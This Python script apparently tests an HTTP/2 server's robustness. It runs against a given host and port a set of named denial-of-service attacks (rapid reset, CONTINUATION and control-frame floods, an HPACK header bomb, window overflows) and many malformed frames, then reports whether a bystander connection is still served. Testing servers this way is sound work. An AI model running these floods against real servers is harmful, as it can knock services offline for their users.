"""Attacks on HTTP/2, frame by frame, with frames and header compression that others wrote.

Prints a line for each attack: its name, and what came of it. Between two attacks, somebody who did
nothing wrong is served on a connection of their own.
"""
import socket
import struct
import sys

import hpack
from hyperframe import frame as frames

HOST, PORT = sys.argv[1].rsplit(":", 1)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a.example.com")]
POST = [(":method", "POST"), *GET[1:]]
LARGE = [*GET[:2], (":path", "/large"), GET[3]]
READ = [*POST[:2], (":path", "/read"), POST[3]]
HELD = [*GET[:2], (":path", "/held"), GET[3]]
# Nobody answers it: what comes of a stream is never an answer that was faster than the attack.
POST_HELD = [*POST[:2], *HELD[2:]]
PATIENCE = 60
# Who takes nothing for so long reads no more.
STALL = 1


class Connection:
    """A session that has begun, in which anything may be said."""

    def __init__(self, settings=None, preface=PREFACE):
        self.socket = socket.create_connection((HOST, int(PORT)), timeout=PATIENCE)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.buffer, self.broken = b"", False
        self.raw(preface)
        self.frame(frames.SettingsFrame(0, settings=settings or {}))

    def raw(self, data):
        try:
            self.socket.sendall(data)
        except (socket.timeout, OSError):
            self.broken = True

    def frame(self, frame):
        self.raw(frame.serialize())

    def odd(self, kind, flags, stream, payload):
        """A frame that no library would write."""
        head = struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream)
        self.raw(head + payload)

    def request(self, stream, fields=GET, flags=("END_HEADERS", "END_STREAM")):
        block = self.encoder.encode(fields)
        first, rest = block[:16384], block[16384:]
        ends = "END_HEADERS" in flags
        flags = [flag for flag in flags if flag != "END_HEADERS" or not rest]
        self.frame(frames.HeadersFrame(stream, first, flags=flags))
        while rest:
            part, rest = rest[:16384], rest[16384:]
            self.frame(frames.ContinuationFrame(stream, part, flags=["END_HEADERS"] * (ends and not rest)))

    def next(self):
        """The next frame; nothing at the end."""
        while True:
            if len(self.buffer) >= 9:
                frame, length = frames.Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) >= 9 + length:
                    frame.parse_body(memoryview(self.buffer[9:9 + length]))
                    self.buffer = self.buffer[9 + length:]
                    return frame
            try:
                part = self.socket.recv(65536)
            except socket.timeout:
                return "silence"
            except OSError:
                return None
            if not part:
                return None
            self.buffer += part

    def outcome(self, stream=None):
        """What becomes of a stream, or of the connection."""
        while True:
            frame = self.next()
            if frame is None:
                return "end"
            if frame == "silence":
                return frame
            if isinstance(frame, frames.GoAwayFrame) and frame.error_code:
                return f"goaway {frame.error_code}"
            if isinstance(frame, frames.HeadersFrame):
                status = dict(self.decoder.decode(frame.data))[":status"]
                if frame.stream_id == stream:
                    return "status " + status
            if frame.stream_id == stream and isinstance(frame, frames.RstStreamFrame):
                return f"reset {frame.error_code}"

    def served(self, stream):
        """Asks, and waits until the other end has done with the stream."""
        self.request(stream)
        while True:
            frame = self.next()
            if frame is None or frame == "silence":
                return
            if frame.stream_id == stream and "END_STREAM" in frame.flags:
                break
        self.frame(frames.PingFrame(0, b"are done"))
        while True:
            frame = self.next()
            if frame is None or frame == "silence" or isinstance(frame, frames.PingFrame):
                return

    def lives(self):
        """Whether it still serves."""
        self.request(0x7FFFFF01)
        return self.outcome(0x7FFFFF01)


def many(connection, data, times, patience=PATIENCE):
    """Says the same again and again, in large pieces, until the other end has had enough. One that is
    merely slow has time: what breaks off within a frame is another attack."""
    piece = data * (65536 // len(data) + 1)
    times = times * len(data) // len(piece) + 1
    connection.socket.settimeout(patience)
    for _ in range(times):
        connection.raw(piece)
        if connection.broken:
            break
    connection.socket.settimeout(PATIENCE)


ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


# Floods.


@attack
def rapid_reset():
    connection = Connection()
    for at in range(20000):
        stream = 2 * at + 1
        connection.request(stream, HELD)
        connection.frame(frames.RstStreamFrame(stream, error_code=8))
        if connection.broken:
            break
    return connection.outcome()


@attack
def continuation_flood():
    connection = Connection()
    connection.request(1, flags=["END_STREAM"])
    many(connection, frames.ContinuationFrame(1, b"\x00\x01a\x7f\x81\x7e" + b"x" * 16000).serialize(), 5000)
    return connection.outcome(1)


@attack
def empty_continuation_flood():
    connection = Connection()
    connection.request(1, flags=["END_STREAM"])
    many(connection, frames.ContinuationFrame(1, b"").serialize(), 1000000)
    return connection.outcome(1)


@attack
def empty_data_flood():
    connection = Connection()
    connection.request(1, POST_HELD, ["END_HEADERS"])
    many(connection, frames.DataFrame(1, b"").serialize(), 1000000)
    return connection.outcome()


@attack
def settings_flood():
    connection = Connection()
    many(connection, frames.SettingsFrame(0, settings={4: 65535}).serialize(), 1000000, STALL)
    return "stalled" if connection.broken else "taken"


@attack
def ping_flood():
    connection = Connection()
    many(connection, frames.PingFrame(0, b"12345678").serialize(), 1000000, STALL)
    return "stalled" if connection.broken else "taken"


@attack
def priority_flood():
    connection = Connection()
    many(connection, frames.PriorityFrame(3, depends_on=0, stream_weight=1).serialize(), 100000)
    return connection.lives()


@attack
def window_update_flood():
    connection = Connection()
    many(connection, frames.WindowUpdateFrame(0, window_increment=1).serialize(), 100000)
    return connection.lives()


@attack
def stream_flood():
    connection = Connection({4: 0})
    for at in range(1100):
        connection.request(2 * at + 1, LARGE)
    return connection.outcome(2 * 1099 + 1)


@attack
def malformed_flood():
    connection = Connection()
    for at in range(2000):
        connection.request(2 * at + 1, [*GET, ("connection", "close")])
        if connection.broken:
            break
    return connection.outcome()


# Windows.


@attack
def zero_window_stall():
    connection = Connection({4: 0})
    for at in range(100):
        connection.request(2 * at + 1, LARGE)
    heads = sum(connection.outcome(2 * at + 1) == "status 200" for at in range(1))
    # Once there is room, everything comes.
    connection.frame(frames.SettingsFrame(0, settings={4: 1 << 20}))
    size = 0
    while size < 65535:
        frame = connection.next()
        if isinstance(frame, frames.DataFrame):
            size += len(frame.data)
        elif frame is None or frame == "silence":
            break
    return f"heads {heads} bytes {size}"


@attack
def window_overflow():
    connection = Connection()
    connection.frame(frames.WindowUpdateFrame(0, window_increment=0x7FFFFFFF))
    return connection.outcome()


@attack
def stream_window_overflow():
    connection = Connection()
    connection.request(1, POST_HELD, ["END_HEADERS"])
    connection.frame(frames.WindowUpdateFrame(1, window_increment=0x7FFFFFFF))
    return connection.outcome(1)


@attack
def window_update_of_nothing():
    connection = Connection()
    connection.odd(8, 0, 0, struct.pack(">I", 0))
    return connection.outcome()


@attack
def initial_window_too_large():
    connection = Connection()
    connection.odd(4, 0, 0, struct.pack(">HI", 4, 0x80000000))
    return connection.outcome()


@attack
def more_than_the_window():
    connection = Connection()
    connection.request(1, POST_HELD, ["END_HEADERS"])
    many(connection, frames.DataFrame(1, b"x" * 16384).serialize(), 4000)
    # The stream's window or the connection's, whichever is noticed first.
    return connection.outcome(1).replace("goaway", "reset")


# Frames that are none.


def after_the_preface(kind, flags, stream, payload):
    connection = Connection()
    connection.odd(kind, flags, stream, payload)
    return connection.outcome(stream or None)


ODD = {
    "frame_too_large": (0, 0, 1, b"x" * 16385),
    "data_on_no_stream": (0, 0, 0, b"x"),
    "data_on_an_idle_stream": (0, 0, 1, b"x"),
    "headers_on_no_stream": (1, 5, 0, b"\x82"),
    "headers_on_an_even_stream": (1, 5, 2, b"\x82"),
    "padding_longer_than_the_frame": (1, 0xD, 1, b"\xff\x82"),
    "priority_of_itself": (2, 0, 1, struct.pack(">IB", 1, 1)),
    "priority_of_odd_length": (2, 0, 1, b"1234"),
    "reset_of_an_idle_stream": (3, 0, 1, struct.pack(">I", 8)),
    "reset_of_odd_length": (3, 0, 1, b"123"),
    "settings_on_a_stream": (4, 0, 1, b""),
    "settings_of_odd_length": (4, 0, 0, b"12345"),
    "settings_with_a_late_answer": (4, 1, 0, b"123456"),
    "settings_with_a_small_frame_size": (4, 0, 0, struct.pack(">HI", 5, 1)),
    "settings_with_odd_push": (4, 0, 0, struct.pack(">HI", 2, 2)),
    "push_promise": (5, 4, 1, struct.pack(">I", 2) + b"\x82"),
    "ping_on_a_stream": (6, 0, 1, b"12345678"),
    "ping_of_odd_length": (6, 0, 0, b"1234567"),
    "goaway_on_a_stream": (7, 0, 1, b"\0" * 8),
    "continuation_of_nothing": (9, 4, 1, b"\x82"),
    "hpack_index_of_nothing": (1, 5, 1, b"\x80"),
    "hpack_index_too_large": (1, 5, 1, b"\xff\xff\xff\xff\x0f"),
    "hpack_table_too_large": (1, 5, 1, b"\x3f\xff\xff\xff\x0f\x82"),
    "hpack_cut_short": (1, 5, 1, b"\x00\x0aab"),
    "hpack_bad_huffman": (1, 5, 1, b"\x00\x84\xff\xff\xff\xff\x01a"),
}
for name, what in ODD.items():
    ATTACKS[name] = lambda what=what: after_the_preface(*what)


@attack
def unknown_frames_and_settings():
    connection = Connection({0x9999: 7})
    connection.odd(0xEE, 0xFF, 0, b"anything")
    connection.odd(0xEE, 0xFF, 7, b"anything")
    return connection.lives()


@attack
def another_frame_within_a_head():
    connection = Connection()
    connection.request(1, flags=["END_STREAM"])
    connection.frame(frames.PingFrame(0, b"12345678"))
    return connection.outcome(1)


@attack
def a_stream_number_of_the_past():
    connection = Connection()
    connection.served(5)
    connection.request(3)
    return connection.outcome(3)


@attack
def data_on_a_closed_stream():
    connection = Connection()
    connection.served(1)
    connection.frame(frames.DataFrame(1, b"x"))
    return connection.outcome(1)


@attack
def headers_on_a_closed_stream():
    connection = Connection()
    connection.served(1)
    connection.request(1)
    return connection.outcome(1)


@attack
def a_broken_preface():
    connection = Connection(preface=b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n")
    data = b""
    while True:
        part = connection.socket.recv(65536)
        if not part:
            break
        data += part
    return data.split(b"\r\n")[0].decode() or "end"


# Heads and trailers.


@attack
def header_bomb():
    """A large entry of the table, named a few thousand times over."""
    connection = Connection()
    connection.request(1, [*GET, ("x-large", "y" * 3900)])
    first = connection.outcome(1)
    block = connection.encoder.encode(GET) + connection.encoder.encode([("x-large", "y" * 3900)]) * 4000
    connection.frame(frames.HeadersFrame(3, block, flags=["END_HEADERS", "END_STREAM"]))
    return first + ", " + connection.outcome(3) + ", " + connection.lives()


@attack
def many_fields():
    connection = Connection()
    connection.request(1, [*GET, *[("a", "b")] * 3000])
    return connection.outcome(1) + ", " + connection.lives()


def trailers(fields, flags=("END_HEADERS", "END_STREAM")):
    connection = Connection()
    connection.request(1, READ, ["END_HEADERS"])
    connection.frame(frames.DataFrame(1, b"abc"))
    connection.request(1, fields, flags)
    return connection.outcome(1)


@attack
def trailers_that_are_fine():
    return trailers([("x-checksum", "1")])


@attack
def trailers_with_a_path():
    return trailers([(":path", "/other")])


@attack
def trailers_without_an_end():
    return trailers([("x", "1")], ["END_HEADERS"])


@attack
def trailers_of_one_connection():
    return trailers([("transfer-encoding", "chunked"), ("connection", "close")])


@attack
def trailers_without_measure():
    return trailers([("x-%d" % at, "y" * 1000) for at in range(300)])


@attack
def data_after_trailers():
    connection = Connection()
    connection.request(1, POST_HELD, ["END_HEADERS"])
    connection.request(1, [("x", "1")])
    connection.frame(frames.DataFrame(1, b"more", flags=["END_STREAM"]))
    return connection.outcome(1)


def leave():
    """Asks until it is told to leave, asks once more, and shows that it has understood."""
    connection, question, told, stream = Connection(), None, None, 1

    def listen(stream):
        """Until there is an answer."""
        nonlocal question, told
        while True:
            frame = connection.next()
            if frame is None or frame == "silence":
                return str(frame)
            if isinstance(frame, frames.GoAwayFrame):
                told = f"{frame.last_stream_id:#x} {frame.error_code}"
            if isinstance(frame, frames.PingFrame) and "ACK" not in frame.flags:
                question = frame.opaque_data
            if isinstance(frame, frames.HeadersFrame):
                status = dict(connection.decoder.decode(frame.data))[":status"]
                if frame.stream_id == stream:
                    return status

    while told is None or question is None:
        connection.request(stream)
        answer = listen(stream)
        if stream == 1 or answer != "200":
            print("answer", answer, flush=True)
        stream += 2
    print("told", told)
    connection.request(stream)
    print("late", listen(stream))
    connection.frame(frames.PingFrame(0, question, flags=["ACK"]))
    print("end", listen(0), told == f"{stream:#x} 0")


def main():
    if sys.argv[2:] == ["leave"]:
        return leave()
    wanted = sys.argv[2:] or list(ATTACKS)
    bystander, stream = Connection(), 1
    for name in wanted:
        outcome = ATTACKS[name]()
        bystander.request(stream)
        served = bystander.outcome(stream)
        stream += 2
        print(f"{name}: {outcome}" + ("" if served == "status 200" else f" (others: {served})"), flush=True)


main()
